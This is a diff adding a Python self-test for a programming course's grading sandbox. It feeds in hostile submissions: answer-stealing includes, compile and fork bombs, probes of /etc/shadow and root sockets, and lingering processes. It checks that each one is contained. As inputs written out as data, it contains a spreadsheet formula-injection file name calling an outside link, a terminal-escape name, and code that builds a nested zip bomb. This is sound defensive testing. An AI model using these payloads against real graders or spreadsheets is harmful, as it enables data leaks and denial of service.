@@ -1,0 +1,441 @@
+"""Self-test of the trust boundary (sandbox.py): hostile submissions from the first byte the compiler
+reads, graded as an instructor grades them, with the harm checked, not argued.
+
+- compile: a step that #includes, __has_include's or .incbin's the kit's answers does not compile,
+  with its own diagnostic, and scores like the stubs: under every isolation, in ./kit grade and in
+  the Gradescope flow;
+- compile bombs (/dev/zero, a slow constexpr loop) end within the stated limits, leave no compiler
+  behind, and the next student of the same ./kit grade -j 2 scores as alone;
+- run bombs: a background thread's memory, a fork bomb, a filled scratch folder, files left in the
+  shared temporary folders; root's files and sockets; a child that lingers past its case;
+- output is data: escapes shown as text, CSV formulas neutralised; links and zip bombs refused;
+- the Gradescope flow gives one submission one score, run after run, equal to ./kit grade's;
+- load never fails correct code: the reference graded cold beside two busy loops gets the maximum.
+
+The heavy forms (the Gradescope flow five times; the slow compile at the default 60 s limit) run
+with RAYKIT_SELFTEST_FULL=1; CI runs the small forms.
+"""
+
+from __future__ import annotations
+
+import csv
+import json
+import os
+import re
+import shutil
+import socket
+import subprocess
+import tempfile
+import threading
+import time
+import zipfile
+from pathlib import Path
+
+from ..common import BUILD, ROOT
+from ..sandbox import COMPILE_UID_OFFSET, FIRST_UID, Limits
+from ..status import NO_COMPILE
+from .harness import Failed, Skipped, expect, need_solutions
+from .integrity import HOSTILE, isolations, one_slip_folder, printed, processes_named, run_modes, step_results
+
+FULL = os.environ.get("RAYKIT_SELFTEST_FULL") == "1"
+WORK = BUILD / "selftest-boundary"
+
+
+def check(folder: Path, numbers: list[str], mode: str, limits: str = "", slot: int = 0,
+          quiet: bool = True) -> tuple[int, dict, str, float]:
+    """`./kit check NUMBERS --steps FOLDER --json F --isolation MODE`, with RAYKIT_LIMITS set:
+    exit status, the JSON, what it printed, seconds."""
+    WORK.mkdir(parents=True, exist_ok=True)
+    target = WORK / f"results-{os.getpid()}-{slot}.json"
+    target.unlink(missing_ok=True)
+    env = dict(os.environ, RAYKIT_LIMITS=limits) if limits else None
+    start = time.monotonic()
+    r = subprocess.run([str(ROOT / "kit"), "check", *[str(int(n)) for n in numbers], "--steps", str(folder),
+                        "--json", str(target), "--isolation", mode, "--slot", str(slot)] + (["--quiet"] if quiet else []),
+                       cwd=ROOT, capture_output=True, text=True, timeout=1800, env=env, errors="replace")
+    took = time.monotonic() - start
+    if not target.is_file():
+        raise Failed(f"./kit check --steps {folder.name} ({mode}) exited {r.returncode} without results: "
+                     f"{(r.stderr or r.stdout)[-600:]}")
+    return r.returncode, json.loads(target.read_text()), r.stdout + r.stderr, took
+
+
+def templated(name: str) -> Path:
+    """A fixture with @ROOT@ replaced by the kit's folder, as a student would write the path."""
+    src = HOSTILE / name
+    dst = WORK / "fixtures" / name
+    shutil.rmtree(dst, ignore_errors=True)
+    for f in src.rglob("*"):
+        if f.is_file():
+            out = dst / f.relative_to(src)
+            out.parent.mkdir(parents=True, exist_ok=True)
+            out.write_text(f.read_text().replace("@ROOT@", str(ROOT)))
+    return dst
+
+
+def sandbox_processes() -> list[str]:
+    """Live processes of any sandbox user id (run or compile)."""
+    found = []
+    for entry in Path("/proc").iterdir():
+        if not entry.name.isdigit():
+            continue
+        try:
+            status = (entry / "status").read_text()
+        except OSError:
+            continue
+        uid = int(re.search(r"^Uid:\s+(\d+)", status, re.M).group(1))
+        state = re.search(r"^State:\s+(\S)", status, re.M).group(1)
+        if FIRST_UID <= uid < FIRST_UID + 2 * COMPILE_UID_OFFSET and state != "Z":
+            found.append(f"{entry.name} uid {uid} {(entry / 'comm').read_text().strip()}")
+    return found
+
+
+def no_leftovers(what: str) -> None:
+    time.sleep(0.3)
+    left = sandbox_processes() + processes_named("rk-linger")
+    expect(not left, f"{what}: processes left after grading: {left[:5]}")
+
+
+# --- the compile ------------------------------------------------------------------------------
+
+STEALERS = {"include_answers": "No such file", "incbin_secrets": "file not found"}
+
+
+def selftest_compile_boundary(ctx) -> str:
+    need_solutions()
+    _, stubs, _, _ = check(ROOT / "steps", ["01"], isolations()[0][0] if isolations()[0] else "none")
+
+    def one(mode: str) -> str:
+        for name, words in STEALERS.items():
+            rc, got, _, _ = check(templated(name), ["01"], mode)
+            [step] = got["extra_data"]["steps"]
+            expect(step["state"] == NO_COMPILE, f"{name} ({mode}): {step['state']}, {got['score']} points: "
+                                                "the kit's answers were reachable from the compile")
+            expect(words in step["detail"] and "unit_sphere.cpp" in step["detail"],
+                   f"{name} ({mode}): the diagnostic is not the student's own: {step['detail'][-300:]!r}")
+            expect(got["score"] == stubs["score"] and rc == 1,
+                   f"{name} ({mode}): {got['score']} points, the stubs {stubs['score']}")
+        no_leftovers(f"compile boundary ({mode})")
+        return f"{', '.join(STEALERS)}: do not compile, {stubs['score']} points like the stubs"
+
+    summary = run_modes(one)
+    # ./kit grade and the Gradescope flow: the same answer-stealer scores like an empty upload.
+    subs = WORK / "grade-stealers"
+    shutil.rmtree(subs, ignore_errors=True)
+    for name in STEALERS:
+        shutil.copytree(templated(name), subs / name)
+    rows = grade_class(subs)
+    bad = {n: r["earned"] for n, r in rows.items() if r["earned"] not in ("0", "")}
+    expect(not bad, f"./kit grade: answer-stealers earned points: {bad}")
+    gs = [gradescope(templated(name))["score"] for name in STEALERS]
+    expect(all(s == 0 for s in gs), f"the Gradescope flow: answer-stealers scored {gs}")
+    return summary + f"; ./kit grade 0 and 0; Gradescope {gs}"
+
+
+def selftest_compile_bombs(ctx) -> str:
+    need_solutions()
+    seconds = Limits().compile_seconds if FULL else 8.0
+    limits = f"compile_seconds={seconds:g}"
+
+    def one(mode: str) -> str:
+        parts = []
+        for name, words in (("compile_bomb_zero", "ran out of"), ("compile_bomb_slow", "took over")):
+            rc, got, _, took = check(HOSTILE / name, ["01"], mode, limits)
+            [step] = got["extra_data"]["steps"]
+            expect(step["state"] == NO_COMPILE and words in step["detail"],
+                   f"{name} ({mode}): {step['state']}; {step['detail'][-300:]!r}")
+            expect(took < seconds + 60, f"{name} ({mode}): the grading took {took:.0f} s, the limit is {seconds:g} s")
+            no_leftovers(f"{name} ({mode})")
+            parts.append(f"{name} stopped ({took:.0f} s)")
+        return ", ".join(parts)
+
+    summary = run_modes(one)
+    # ./kit grade -j 2: a bomb beside the solutions; the solutions score as alone.
+    subs = WORK / "grade-bombs"
+    shutil.rmtree(subs, ignore_errors=True)
+    shutil.copytree(HOSTILE / "compile_bomb_slow", subs / "a_bomb")
+    shutil.copytree(ROOT / "solutions", subs / "b_solutions")
+    rows = grade_class(subs, ["-j", "2"], limits)
+    _, alone, _, _ = check(ROOT / "solutions", [s.number for s in ctx.steps], isolations()[0][0])
+    expect(rows["b_solutions"]["earned"] == str(alone["score"]),
+           f"./kit grade -j 2: the solutions beside a compile bomb earned {rows['b_solutions']['earned']}, "
+           f"alone {alone['score']}")
+    no_leftovers("./kit grade -j 2 with a compile bomb")
+    return summary + f"; ./kit grade -j 2: the solutions beside it {alone['score']} as alone"
+
+
+# --- the run ----------------------------------------------------------------------------------
+
+def numbers_in(text: str, pattern: str) -> list[int]:
+    return [int(m) for m in re.findall(pattern, text)]
+
+
+def selftest_run_bombs(ctx) -> str:
+    need_solutions()
+    limits = Limits()
+    memory = 384
+
+    def one(mode: str) -> str:
+        _, base, _, _ = check(HOSTILE / "always_miss", ["01"], mode)
+        parts = []
+        _, got, _, _ = check(HOSTILE / "memory_hog", ["01"], mode, f"run_memory_mb={memory}")
+        most = max(numbers_in(printed(got), r"memory_hog: (\d+) MiB so far") or [0])
+        expect("memory_hog: a thread started" in printed(got), f"memory_hog ({mode}): did not run")
+        expect(most < memory, f"memory_hog ({mode}): its thread touched {most} MiB, the limit is {memory} MiB")
+        parts.append(f"memory {most} MiB < {memory}")
+        _, forks, _, _ = check(HOSTILE / "fork_bomb", ["01"], mode)
+        started = max(numbers_in(printed(forks), r"fork_bomb: started (\d+)") or [-1])
+        expect(0 <= started <= limits.processes, f"fork_bomb ({mode}): started {started} children, the limit "
+                                                 f"is {limits.processes}")
+        parts.append(f"forks {started} <= {limits.processes}")
+        _, fill, _, _ = check(HOSTILE / "fill_scratch", ["01"], mode)
+        text = printed(fill)
+        wrote = max(numbers_in(text, r"wrote (\d+) MiB") or [-1])
+        big = max(numbers_in(text, r"one file reached (\d+) MiB") or [-1])
+        expect(wrote >= 0, f"fill_scratch ({mode}): did not run: {text[:200]!r}")
+        expect(big <= limits.file_mb, f"fill_scratch ({mode}): one file of {big} MiB, the limit is {limits.file_mb}")
+        if mode == "bwrap":
+            expect(wrote <= limits.scratch_mb, f"fill_scratch (bwrap): wrote {wrote} MiB, the scratch limit is "
+                                               f"{limits.scratch_mb} MiB")
+        left = [str(p) for d in ("/tmp", "/var/tmp", "/dev/shm") for p in Path(d).glob("raykit-hostile-*")]
+        expect(not left, f"fill_scratch ({mode}): files left in the shared temporary folders: {left}")
+        parts.append(f"scratch {wrote} MiB, largest file {big} MiB, nothing left")
+        for name, data in (("memory_hog", got), ("fork_bomb", forks), ("fill_scratch", fill)):
+            expect(data["score"] == base["score"], f"{name} ({mode}): {data['score']} points, always_miss "
+                                                   f"{base['score']}")
+        no_leftovers(f"run bombs ({mode})")
+        return ", ".join(parts)
+
+    return run_modes(one)
+
+
+class RootSocket:
+    """A root-owned Unix socket (mode 0600) that records who connected (SO_PEERCRED uids)."""
+
+    def __init__(self, path: str):
+        self.path, self.peers = path, []
+        Path(path).unlink(missing_ok=True)
+        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+        self.sock.bind(path)
+        os.chmod(path, 0o600)
+        self.sock.listen(16)
+        self.sock.settimeout(0.2)
+        self.stop = False
+        self.thread = threading.Thread(target=self.serve, daemon=True)
+        self.thread.start()
+
+    def serve(self) -> None:
+        import struct
+        while not self.stop:
+            try:
+                conn, _ = self.sock.accept()
+            except OSError:
+                continue
+            cred = conn.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, struct.calcsize("3i"))
+            self.peers.append(struct.unpack("3i", cred)[1])
+            conn.close()
+
+    def close(self) -> None:
+        self.stop = True
+        self.thread.join()
+        self.sock.close()
+        Path(self.path).unlink(missing_ok=True)
+
+
+def selftest_root_secrets(ctx) -> str:
+    need_solutions()
+    if os.geteuid() != 0:
+        raise Skipped("needs root: the attack is on what root owns")
+    servers = [RootSocket(p) for p in ("/run/raykit-hostile.sock", "/tmp/raykit-hostile.sock") if Path(p).parent.is_dir()]
+
+    def one(mode: str) -> str:
+        _, got, _, _ = check(HOSTILE / "root_secrets", ["01"], mode)
+        text = printed(got)
+        expect("root_secrets:" in text, f"root_secrets ({mode}): did not run")
+        leaks = sorted({l for l in text.splitlines() if "could" in l})
+        expect(not leaks, f"root_secrets ({mode}): " + "; ".join(leaks))
+        peers = [p for s in servers for p in s.peers]
+        expect(not peers, f"root_secrets ({mode}): a root-only socket saw connections from uids {peers}")
+        return "/etc/shadow and root's sockets denied"
+
+    try:
+        return run_modes(one)
+    finally:
+        for s in servers:
+            s.close()
+
+
+def selftest_lingering_child(ctx) -> str:
+    """A child detached in every call lives no longer than its case: the process list is sampled
+    while grading, each rk-lingerchild's lifetime measured."""
+    need_solutions()
+
+    def one(mode: str) -> str:
+        seen: dict[str, list[float]] = {}
+        done = threading.Event()
+
+        def sample() -> None:
+            while not done.is_set():
+                now = time.monotonic()
+                for p in processes_named("rk-lingerchild"):
+                    seen.setdefault(p.split()[0], [now, now])[1] = now
+                time.sleep(0.05)
+
+        watcher = threading.Thread(target=sample, daemon=True)
+        watcher.start()
+        try:
+            _, got, _, took = check(HOSTILE / "lingering_child", ["01"], mode)
+        finally:
+            done.set()
+            watcher.join()
+        expect("lingering_child: started one" in printed(got), f"lingering_child ({mode}): did not run")
+        longest = max((b - a for a, b in seen.values()), default=0.0)
+        expect(longest < 3.0, f"lingering_child ({mode}): a child lived {longest:.1f} s of a {took:.0f} s grading")
+        no_leftovers(f"lingering_child ({mode})")
+        return f"{len(seen)} children seen, the longest-lived {longest:.2f} s"
+
+    return run_modes(one)
+
+
+# --- output, links, uploads -----------------------------------------------------------------
+
+RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")
+
+
+def selftest_output_is_data(ctx) -> str:
+    need_solutions()
+    modes, _ = isolations()
+    mode = modes[0] if modes else "none"
+    rc, got, shown, _ = check(HOSTILE / "escapes", ["01"], mode, quiet=False)
+    expect("escapes:" in printed(got), "escapes: did not run")
+    expect("escapes:" in shown, "escapes: its output is not shown under the failing case")
+    raw = RAW_CONTROL.findall(shown)
+    expect(not raw, f"escapes: control characters reached the terminal: {sorted(set(raw))!r}")
+    subs = WORK / "grade-names"
+    shutil.rmtree(subs, ignore_errors=True)
+    formula = '=HYPERLINK("http://example.invalid/"&B2,"dave")'
+    for name in (formula, "\x1b[2Jeve", "+bob", "-carol", "@dan"):
+        shutil.copytree(HOSTILE / "always_miss", subs / name)
+    csv_path = WORK / "names.csv"
+    r = subprocess.run([str(ROOT / "kit"), "grade", str(subs), "--out", str(csv_path), "-j", "2"], cwd=ROOT,
+                       capture_output=True, text=True, timeout=1800, errors="replace")
+    expect(r.returncode == 0, f"./kit grade exited {r.returncode}: {r.stderr[-400:]}")
+    cells = [row[0] for row in list(csv.reader(csv_path.open()))[1:]]
+    unsafe = [c for c in cells if c[:1] in "=+-@\t\r"]
+    expect(not unsafe and len(cells) == 5, f"grades.csv: cells a spreadsheet runs: {unsafe} (of {cells})")
+    raw = RAW_CONTROL.findall(r.stdout + r.stderr)
+    expect(not raw, f"./kit grade printed control characters: {sorted(set(raw))!r}")
+    return f"escapes shown as text; {len(cells)} hostile names written as text in grades.csv"
+
+
+def selftest_links_and_uploads(ctx) -> str:
+    need_solutions()
+    link = WORK / "linked"
+    shutil.rmtree(link, ignore_errors=True)
+    (link / "01_unit_sphere").mkdir(parents=True)
+    (link / "01_unit_sphere" / "unit_sphere.cpp").symlink_to(ROOT / "solutions" / "01_unit_sphere" / "unit_sphere.cpp")
+    r = subprocess.run([str(ROOT / "kit"), "check", "1", "--steps", str(link), "--quiet"], cwd=ROOT,
+                       capture_output=True, text=True, timeout=600)
+    expect(r.returncode != 0 and "link" in r.stderr, f"--steps with a linked step file: exit {r.returncode}, "
+                                                      f"{r.stderr[-300:]!r}")
+    # A zip of zips of empty entries: 14 x 15,000 files from about 2 MB.
+    bomb = WORK / "grade-zipbomb"
+    shutil.rmtree(bomb, ignore_errors=True)
+    bomb.mkdir(parents=True)
+    inner = WORK / "inner.zip"
+    with zipfile.ZipFile(inner, "w") as z:
+        for i in range(15000):
+            z.writestr(f"e{i}", b"")
+    with zipfile.ZipFile(bomb / "mallory.zip", "w") as z:
+        for i in range(14):
+            z.write(inner, f"in{i}.zip")
+    shutil.copytree(link, bomb / "linda", symlinks=True)
+    start = time.monotonic()
+    rows = grade_class(bomb)
+    took = time.monotonic() - start
+    expect("more than" in rows["mallory"]["note"] and rows["mallory"]["earned"] == "",
+           f"the zip bomb: {rows['mallory']}")
+    expect(rows["linda"]["earned"] in ("", "0"), f"a linked step file earned {rows['linda']['earned']} in ./kit grade")
+    expect(took < 120, f"./kit grade of a zip bomb took {took:.0f} s")
+    return f"a linked step refused by --steps and ./kit grade; a zip bomb refused ({took:.1f} s for the class)"
+
+
+# --- flows ------------------------------------------------------------------------------------
+
+def grade_class(subs: Path, extra: list[str] = (), limits: str = "") -> dict[str, dict]:
+    out = WORK / f"{subs.name}.csv"
+    env = dict(os.environ, RAYKIT_LIMITS=limits) if limits else None
+    r = subprocess.run([str(ROOT / "kit"), "grade", str(subs), "--out", str(out), *extra], cwd=ROOT,
+                       capture_output=True, text=True, timeout=3600, env=env, errors="replace")
+    expect(r.returncode == 0 and out.is_file(), f"./kit grade {subs.name} exited {r.returncode}: {r.stderr[-500:]}")
+    return {row["student"]: row for row in csv.DictReader(out.open())}
+
+
+def gradescope(upload: Path) -> dict:
+    """The Gradescope flow as its documentation describes it: /autograder/source (here a link to
+    the kit), the upload in submission/, run_autograder as root, results/results.json read."""
+    ag = WORK / "autograder"
+    shutil.rmtree(ag, ignore_errors=True)
+    ag.mkdir(parents=True)
+    (ag / "source").symlink_to(ROOT)
+    shutil.copytree(upload, ag / "submission")
+    r = subprocess.run(["bash", str(ROOT / "tools" / "gradescope" / "run_autograder")], cwd=ag,
+                       env=dict(os.environ, RAYKIT_AUTOGRADER_ROOT=str(ag)), capture_output=True, text=True,
+                       timeout=3600)
+    try:
+        return json.loads((ag / "results" / "results.json").read_text())
+    except (OSError, ValueError) as e:
+        raise Failed(f"the Gradescope flow wrote no results.json ({e}): {r.stdout[-300:]}{r.stderr[-300:]}")
+
+
+def selftest_gradescope_repeatable(ctx) -> str:
+    need_solutions()
+    if os.geteuid() != 0:
+        raise Skipped("Gradescope runs the autograder as root")
+    runs = 5 if FULL else 2
+    folder = one_slip_folder()
+    scores = [gradescope(folder)["score"] for _ in range(runs)]
+    no_leftovers("the Gradescope flow")
+    subs = WORK / "grade-one-slip"
+    shutil.rmtree(subs, ignore_errors=True)
+    shutil.copytree(folder, subs / "dave")
+    graded = float(grade_class(subs)["dave"]["earned"])
+    expect(len(set(scores)) == 1 and scores[0] == graded,
+           f"the same submission scored {scores} in {runs} Gradescope runs, {graded:g} in ./kit grade")
+    return f"{runs} runs: {scores}, ./kit grade {graded:g}" + ("" if FULL else " (5 runs with RAYKIT_SELFTEST_FULL=1)")
+
+
+def selftest_load(ctx) -> str:
+    """The reference, its build folder from nothing, graded beside two busy loops: the maximum."""
+    need_solutions()
+    modes, _ = isolations()
+    mode = modes[0] if modes else "none"
+    slot = 9
+    shutil.rmtree(BUILD / f"submission-{slot}", ignore_errors=True)
+    busy = [subprocess.Popen(["python3", "-c", "while True: pass"]) for _ in range(2)]
+    try:
+        load = os.getloadavg()[0]
+        _, got, _, took = check(ROOT / "solutions", [s.number for s in ctx.steps], mode, slot=slot)
+        load = max(load, os.getloadavg()[0])
+    finally:
+        for p in busy:
+            p.kill()
+            p.wait()
+        shutil.rmtree(BUILD / f"submission-{slot}", ignore_errors=True)
+        shutil.rmtree(BUILD / f"submission-{slot}-src", ignore_errors=True)
+    bad = {n: (s["earned"], s["maximum"]) for n, s in step_results(got).items() if s["earned"] != s["maximum"]}
+    expect(got["score"] == got["extra_data"]["max_score"] and not bad,
+           f"the reference under load ({mode}): {got['score']} of {got['extra_data']['max_score']}: {bad}")
+    return f"{got['score']} of {got['extra_data']['max_score']} cold beside two busy loops ({mode}, {took:.0f} s, load {load:.1f})"
+
+
+def selftests():
+    return [("boundary: the compile cannot reach the answers", selftest_compile_boundary),
+            ("boundary: compile bombs", selftest_compile_bombs),
+            ("boundary: run bombs", selftest_run_bombs),
+            ("boundary: root's files and sockets", selftest_root_secrets),
+            ("boundary: a lingering child", selftest_lingering_child),
+            ("boundary: output is data", selftest_output_is_data),
+            ("boundary: links and zip bombs", selftest_links_and_uploads),
+            ("boundary: the Gradescope flow is repeatable", selftest_gradescope_repeatable),
+            ("boundary: load never fails correct code", selftest_load)]
